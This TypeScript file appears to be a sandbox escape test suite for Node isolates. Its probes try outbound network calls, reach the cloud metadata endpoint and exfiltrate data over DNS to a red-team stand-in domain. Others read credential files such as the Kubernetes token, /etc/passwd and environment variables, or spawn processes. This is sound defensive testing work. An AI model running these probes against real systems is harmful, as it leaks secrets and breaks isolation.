import type { AttackProgram } from "./program.ts";

/** By the modules of Node that an isolate has. */
export const node_programs: readonly AttackProgram[] = [
  {
    name: "node-http",
    about: "node:http and node:https, agents and sockets of their own",
    source: `
import * as http from "node:http";
import * as https from "node:https";
import { emitted } from "./told.js";
export function ways({ host, port, path, socket, server }) {
  const post = () => { const call = http.request({ host, port, path, method: "POST" }); call.end("secret"); return call; };
  return {
    "http.get": () => emitted(http.get({ host, port, path }), "response"),
    "http.get by name": () => emitted(http.get({ host: "localhost", port, path }), "response"),
    "http.get IPv6": () => emitted(http.get({ host: "::1", port, path }), "response"),
    "http.get, another Host": () => emitted(http.get({ host, port, path, headers: { host: "example.com" } }), "response"),
    "http.get, own lookup": () => emitted(http.get({ host: "example.com", port, path, lookup: (_n, _o, done) => done(null, "127.0.0.1", 4) }), "response"),
    "http.get metadata": () => emitted(http.get("http://169.254.169.254/latest/meta-data/"), "response"),
    "http.get Gantry": () => emitted(http.get(server + "/readyz"), "response"),
    "http.request POST": () => emitted(post(), "response"),
    "http by unix socket": () => emitted(http.get({ socketPath: socket || "/run/in.sock", path }), "response"),
    "http by our socket": () => emitted(http.get({ socketPath: "/run/out.sock", path }), "response"),
    "CONNECT": () => { const call = http.request({ host, port, method: "CONNECT", path: "127.0.0.1:" + port }); call.end(); return emitted(call, "connect"); },
    "https.get": () => emitted(https.get({ host, port, path, rejectUnauthorized: false }), "response"),
    "https.get public": () => emitted(https.get("https://example.com/"), "response"),
  };
}
`,
  },
  {
    name: "node-net",
    about: "node:net, node:tls, node:dgram and node:http2",
    source: `
import * as net from "node:net";
import { emitted, hidden } from "./told.js";
function spoken(socket) {
  socket.on("connect", () => socket.write("GET /canary HTTP/1.0\\r\\n\\r\\n"));
  return emitted(socket, "data");
}
export function ways({ host, port, socket }) {
  return {
    "net.connect": () => spoken(net.connect(port, host)),
    "net.connect by name": () => spoken(net.connect(port, "localhost")),
    "net.connect IPv6": () => spoken(net.connect(port, "::1")),
    "net.connect metadata": () => spoken(net.connect(80, "169.254.169.254")),
    "net.connect public": () => spoken(net.connect(443, "example.com")),
    "net by unix socket": () => spoken(net.connect({ path: socket || "/run/in.sock" })),
    "net by our socket": () => spoken(net.connect({ path: "/run/out.sock" })),
    "tls.connect": async () => spoken((await hidden("node", "tls")).connect({ host, port, rejectUnauthorized: false })),
    "http2.connect": async () => emitted((await hidden("node", "http2")).connect("http://" + host + ":" + port), "connect"),
    "dgram send": async () => {
      const { createSocket } = await hidden("node", "dgram");
      const sender = createSocket("udp4");
      return new Promise((resolve, reject) => sender.send("x", port, host, (error) => (error ? reject(error) : resolve("sent"))));
    },
  };
}
`,
  },
  {
    name: "node-dns",
    about: "names as messages: node:dns, and DNS over HTTPS",
    source: `
import * as dns from "node:dns";
import * as promises from "node:dns/promises";
import { answered } from "./told.js";
const looked = (host, o) => new Promise((resolve, reject) => dns.lookup(host, o, (error, found) => (error ? reject(error) : resolve(JSON.stringify(found)))));
export function ways() {
  const name = "c2VjcmV0.red-team.example.com";
  const doh = (url, o) => async () => answered(await fetch(url, o));
  const wire = new Uint8Array([0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 7, 101, 120, 97, 109, 112, 108, 101, 3, 99, 111, 109, 0, 0, 16, 0, 1]);
  return {
    "lookup": () => looked("example.com", {}),
    "lookup all": () => looked("example.com", { all: true }),
    "lookup loopback": () => looked("localhost.example.com", {}),
    "resolve4": () => promises.resolve4(name),
    "resolve6": () => promises.resolve6(name),
    "resolveTxt": () => promises.resolveTxt(name),
    "resolveMx": () => promises.resolveMx("example.com"),
    "resolveSrv": () => promises.resolveSrv("_x._tcp.example.com"),
    "resolveNs": () => promises.resolveNs("example.com"),
    "resolveAny": () => promises.resolveAny("example.com"),
    "reverse": () => promises.reverse("93.184.216.34"),
    "DNS over HTTPS, other server": doh("https://dns.google/resolve?name=" + name + "&type=TXT"),
    "DNS over HTTPS, by address": doh("https://1.1.1.1/dns-query?name=" + name, { headers: { accept: "application/dns-json" } }),
    "DNS over HTTPS, other path": doh("https://cloudflare-dns.com/other?name=" + name),
    "DNS over HTTPS, other host of the server": doh("https://mozilla.cloudflare-dns.com/dns-query?name=" + name),
    "DNS over HTTPS, as wire to others": doh("https://dns.quad9.net/dns-query", { method: "POST", body: wire, headers: { "content-type": "application/dns-message" } }),
  };
}
`,
  },
  {
    name: "files",
    about: "files of the host, by node:fs, links and URLs",
    source: `
import * as fs from "node:fs";
import { answered, some } from "./told.js";
const files = ["/etc/passwd", "/etc/hostname", "/etc/resolv.conf", "/proc/self/environ", "/proc/self/maps", "/proc/1/cmdline",
  "/run/in.sock", "/run/out.sock", "/usr/bin/env", "/var/run/docker.sock", "/var/run/secrets/kubernetes.io/serviceaccount/token",
  "../../../../etc/passwd", "/dev/mem", "/dev/kmsg"];
export function ways({ socket }) {
  const all = Object.fromEntries(files.map((path) => ["read " + path, () => fs.readFileSync(path).length]));
  return {
    ...all,
    "list /home": () => some(fs.readdirSync("/home")),
    "list /proc": () => some(fs.readdirSync("/proc")),
    "list /run": () => some(fs.readdirSync("/run")),
    "list ..": () => some(fs.readdirSync("../../..").filter((name) => !["bundle", "dev", "tmp"].includes(name))),
    "a link": () => { fs.symlinkSync("/etc/passwd", "/tmp/link"); return fs.readFileSync("/tmp/link", "utf8"); },
    "a hard link": () => { fs.linkSync("/etc/passwd", "/tmp/hard"); return fs.readFileSync("/tmp/hard", "utf8"); },
    "write outside": () => { fs.writeFileSync("/usr/left-behind", "x"); return "written"; },
    "the canary's socket": () => fs.readFileSync(socket || "/run/in.sock").length,
    "fetch file": async () => answered(await fetch("file:///etc/passwd")),
    "import file": () => import(["file", "///etc/passwd"].join(":")),
  };
}
`,
  },
  {
    name: "host",
    about: "environment, users, interfaces and other processes",
    source: `
import * as os from "node:os";
import process from "node:process";
import { hidden, some } from "./told.js";
export const ways = () => ({
  // A lease is a word that means nothing elsewhere: to hold one is no escape.
  "process.env": () => some(Object.keys(process.env).filter((name) => !process.env[name].startsWith("gl_"))),
  "process.argv": () => some(process.argv.slice(2)),
  "process.binding": () => process.binding("spawn_sync"),
  "process.dlopen": () => process.dlopen({ exports: {} }, "/usr/lib/libc.so.6") || "loaded",
  "os.hostname": () => (["", "localhost"].includes(os.hostname()) ? undefined : os.hostname()),
  "os.networkInterfaces": () => some(Object.keys(os.networkInterfaces())),
  "os.userInfo": () => os.userInfo().username,
  "execSync": async () => (await hidden("node", "child_process")).execSync("id"),
  "spawn": async () => (await hidden("node", "child_process")).spawn("id").pid,
  "fork": async () => (await hidden("node", "child_process")).fork("x.js").pid,
  "Worker": async () => new (await hidden("node", "worker_threads")).Worker("1", { eval: true }).threadId,
  "cluster.fork": async () => (await hidden("node", "cluster")).fork().id,
  "inspector.open": async () => { const i = await hidden("node", "inspector"); i.open(0, "127.0.0.1", false); return i.url(); },
  "sqlite": async () => new (await hidden("node", "sqlite")).DatabaseSync("/tmp/x.db") && "opened",
  "wasi": async () => new (await hidden("node", "wasi")).WASI({ version: "preview1", preopens: { "/": "/" } }) && "preopened",
});
`,
  },
];
